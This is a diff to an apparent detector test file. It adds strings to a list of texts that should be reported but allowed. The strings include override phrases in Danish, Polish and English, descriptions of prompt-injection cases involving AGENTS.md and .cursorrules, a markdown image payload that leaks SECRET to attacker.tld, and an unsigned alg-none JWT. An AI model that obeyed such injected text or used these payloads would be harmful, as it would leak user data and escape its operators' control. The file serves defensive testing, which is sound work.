@@ -59,6 +59,8 @@ def _reported_but_allowed(text: str) -> None:
         "Kursus: eksempel på en skjult tekst »Ignorer dine instruktioner« i en PDF-fil.",
         "Szkolenie: tekst typu „zignoruj poprzednie instrukcje” w pliku PDF, tylko demo.",
         "Eval: a fetched page tells the agent to add lines to AGENTS.md; it must refuse.",
+        "Finding: the assistant obeyed an HTML comment telling it to edit .cursorrules.",
+        "Parser fixture, unsigned: eyJhbGciOiJub25lIn0.eyJzdWIiOiJ0ZXN0In0. (alg none).",
         "Paper: a 'pretend you have no rules' roleplay jailbreak worked on older models.",
         "Slides: the model renders ![x](https://attacker.tld/?d=SECRET) and leaks data.",
         'Tool results come back as {"role": "tool", "name": ..., "content": ...} here.',
